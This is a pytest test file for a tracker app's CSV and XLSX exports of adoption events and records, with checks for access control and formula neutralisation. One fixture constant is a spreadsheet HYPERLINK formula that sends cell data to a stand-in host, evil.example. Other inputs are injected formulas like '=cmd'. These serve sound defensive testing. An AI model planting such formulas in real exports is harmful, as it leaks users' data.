"""Downloading adoption events and current records as CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from tracker import db as tracker_db
from tracker import tabular
from tracker.adoption import queries
from tracker.adoption.rules import EventInput
from tracker.adoption.services import append_event
from tracker.calendar import today
from tracker.models import ChangeIdea, Organisation, User
from tracker.spreadsheets import exporting

EVENTS_CSV = "/spreadsheets/adoption-events.csv"
EVENTS_XLSX = "/spreadsheets/adoption-events.xlsx"
RECORDS_CSV = "/spreadsheets/adoption-records.csv"
RECORDS_XLSX = "/spreadsheets/adoption-records.xlsx"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def add_event(session, ods: str, code: str, stage: str, day: date, *, email: str | None = None, **details):
    organisation = session.scalar(select(Organisation).filter_by(ods_code=ods))
    idea = session.scalar(select(ChangeIdea).filter_by(code=code))
    user = session.scalar(select(User).filter_by(email=email)) if email else None
    result = append_event(session, user, organisation, idea, EventInput(stage=stage, effective_date=day, **details))
    session.commit()
    return result.event.id


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes):
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return sheet, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def all_events(app):
    with Session(bind=tracker_db.get_engine(app)) as s:
        return [
            (e.id, e.organisation.ods_code, e.change_idea.code, e.stage.value, e.effective_date)
            for e in queries.events(s)
        ]


def all_records(app):
    with Session(bind=tracker_db.get_engine(app)) as s:
        return [
            (r.organisation.ods_code, r.change_idea.code, r.stage.value, r.current_event_id)
            for r in queries.current_records(s)
        ]


@pytest.fixture
def ledger(seeded):
    """Three events of ours (on top of any demo history): a formula in a note, a discontinuation, a correction."""
    first = add_event(
        seeded,
        "RNU",
        "SS-01",
        "testing",
        date(2024, 1, 10),
        email="faculty@demo.invalid",
        note=FORMULA,
        wards_using=1,
        wards_in_scope=6,
    )
    add_event(
        seeded,
        "RNU",
        "SS-01",
        "implementing",
        date(2024, 4, 2),
        email="manager@demo.invalid",
        evidence_url="https://example.org/r",
    )
    add_event(
        seeded, "RWX", "RP-02", "discontinued", date(2024, 6, 30), discontinued_reason="other", note="-2 wards: merged"
    )
    return {"first": first}


# neutralise -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (FORMULA, "'" + FORMULA),
        ("+44 1865 000000", "'+44 1865 000000"),
        ("-2 wards", "'-2 wards"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_neutralise_quotes_text_a_spreadsheet_would_run(value, expected):
    assert tabular.neutralise(value) == expected


@pytest.mark.parametrize("value", [None, 0, -3, 2.5, date(2024, 1, 1), datetime(2024, 1, 1, 12, 0)])
def test_neutralise_leaves_everything_but_text_alone(value):
    assert tabular.neutralise(value) == value


# The files ----------------------------------------------------------------------------------------


def test_events_csv_holds_every_event_oldest_first_with_formulas_neutralised(app, ledger, signed_in):
    response = signed_in("trust").get(EVENTS_CSV)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset, said once
    assert response.headers["Content-Disposition"] == f'attachment; filename="adoption-events-{today():%Y-%m-%d}.csv"'
    rows = read_csv(response.data)
    assert list(rows[0]) == [c.heading for c in exporting.EVENT_COLUMNS]
    assert [
        (int(r["event_id"]), r["ods_code"], r["intervention_code"], r["stage"], date.fromisoformat(r["effective_date"]))
        for r in rows
    ] == all_events(app)
    assert [r["effective_date"] for r in rows] == sorted(r["effective_date"] for r in rows)
    first = next(r for r in rows if int(r["event_id"]) == ledger["first"])
    assert first["note"] == "'" + FORMULA
    assert first == first | {
        "organisation_name": "Oxford Health NHS Foundation Trust",
        "ods_code": "RNU",
        "network_code": "OXF",
        "intervention_code": "SS-01",
        "stage": "testing",
        "effective_date": "2024-01-10",
        "wards_using": "1",
        "wards_in_scope": "6",
        "discontinued_reason": "",
        "corrects_event_id": "",
        "logged_by": "faculty@demo.invalid",
        "channel": "form",
        "demo": "no",
    }
    assert first["ambition_code"] and first["package_code"] and first["intervention_title"] and first["network_name"]
    assert datetime.fromisoformat(first["logged_at_utc"]).utcoffset().total_seconds() == 0
    stopped = next(
        r for r in rows if r["ods_code"] == "RWX" and r["intervention_code"] == "RP-02" and r["stage"] == "discontinued"
    )
    assert (
        stopped["discontinued_reason"] == "other"
        and stopped["note"] == "'-2 wards: merged"
        and stopped["logged_by"] == ""
    )


def test_events_xlsx_matches_with_real_dates_a_frozen_header_and_formulas_neutralised(app, ledger, signed_in):
    response = signed_in("faculty").get(EVENTS_XLSX)
    assert response.status_code == 200
    assert response.mimetype == tabular.MIMETYPES["xlsx"]
    assert response.headers["Content-Disposition"] == f'attachment; filename="adoption-events-{today():%Y-%m-%d}.xlsx"'
    sheet, rows = read_xlsx(response.data)
    assert sheet.title == "Adoption events"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width == 45
    assert [
        (r["event_id"], r["ods_code"], r["intervention_code"], r["stage"], r["effective_date"].date()) for r in rows
    ] == all_events(app)
    first = next(r for r in rows if r["event_id"] == ledger["first"])
    assert first["note"] == "'" + FORMULA
    assert isinstance(first["effective_date"], datetime) and first["effective_date"].date() == date(2024, 1, 10)
    assert isinstance(first["logged_at_utc"], datetime)
    assert first["wards_using"] == 1 and first["demo"] == "no"
    note_cell = next(c for c in sheet.iter_rows(min_row=2) if c[19].value == ledger["first"])[12]
    assert note_cell.data_type == "s"


@pytest.mark.parametrize("path", [RECORDS_CSV, RECORDS_XLSX])
def test_records_hold_the_current_record_of_each_organisation_and_idea(app, ledger, signed_in, path):
    response = signed_in("trust").get(path)
    assert response.status_code == 200
    if path.endswith(".csv"):
        rows = read_csv(response.data)
        got = [(r["ods_code"], r["intervention_code"], r["stage"], int(r["current_event_id"])) for r in rows]
    else:
        sheet, rows = read_xlsx(response.data)
        assert sheet.title == "Current records"
        got = [(r["ods_code"], r["intervention_code"], r["stage"], r["current_event_id"]) for r in rows]
    assert list(rows[0]) == [c.heading for c in exporting.RECORD_COLUMNS]
    assert got == all_records(app)
    rnu = next(r for r in rows if r["ods_code"] == "RNU" and r["intervention_code"] == "SS-01")
    assert rnu["stage"] == "implementing" and rnu["evidence_url"] == "https://example.org/r"
    assert rnu["last_logged_by"] == "manager@demo.invalid"


def test_xlsx_drops_characters_excel_cannot_hold(app, seeded, signed_in):
    add_event(seeded, "RDY", "SS-02", "considering", date(2024, 2, 1), note="bell\x07 and tab\tkept")
    _sheet, rows = read_xlsx(signed_in("trust").get(EVENTS_XLSX).data)
    assert "bell and tab\tkept" in {r["note"] for r in rows}


@pytest.mark.parametrize("path", [EVENTS_CSV, EVENTS_XLSX, RECORDS_CSV, RECORDS_XLSX])
def test_the_statement_count_does_not_grow_with_the_events(app, seeded, signed_in, statement_counter, path):
    client = signed_in("trust")
    add_event(seeded, "RNU", "SS-01", "testing", date(2024, 1, 10), email="faculty@demo.invalid")
    client.get(path).get_data()  # warm up: the session user and anything cached per process
    # The body is read inside the count: the CSV files stream, their rows read as they are sent.
    with statement_counter() as few:
        assert client.get(path).get_data()
    for ods, code, who in [
        ("RWX", "RP-01", "manager@demo.invalid"),
        ("RDY", "SS-03", "admin@demo.invalid"),
        ("RX2", "SSH-04", None),
        ("RH5", "RP-03", "faculty@demo.invalid"),
    ]:
        add_event(seeded, ods, code, "considering", date(2024, 2, 1), email=who)
        add_event(seeded, ods, code, "implementing", date(2024, 5, 1), email=who)
    with statement_counter() as many:
        assert len(client.get(path).get_data()) > 100
    assert len(many) == len(few)


# The page and who may use it ---------------------------------------------------------------------


def test_the_page_lists_the_downloads_and_offers_the_import_to_managers(signed_in):
    client = signed_in("trust")
    html = client.get("/spreadsheets").get_data(as_text=True)
    for path in (EVENTS_CSV, EVENTS_XLSX, RECORDS_CSV, RECORDS_XLSX):
        assert f'href="{path}"' in html
    assert "/spreadsheets/import" not in html
    client.submit("/sign-out", {}, page="/spreadsheets")
    client.sign_in_as("manager")
    assert 'href="/spreadsheets/import"' in client.get("/spreadsheets").get_data(as_text=True)


@pytest.mark.parametrize("path", ["/spreadsheets", EVENTS_CSV, RECORDS_XLSX])
def test_signed_out_people_cannot_download(client, seeded, path):
    response = client.get(path)
    assert response.status_code == 302 and "/sign-in" in response.headers["Location"]


def test_only_csv_and_xlsx_are_offered(signed_in):
    assert signed_in("trust").get("/spreadsheets/adoption-events.json").status_code == 404
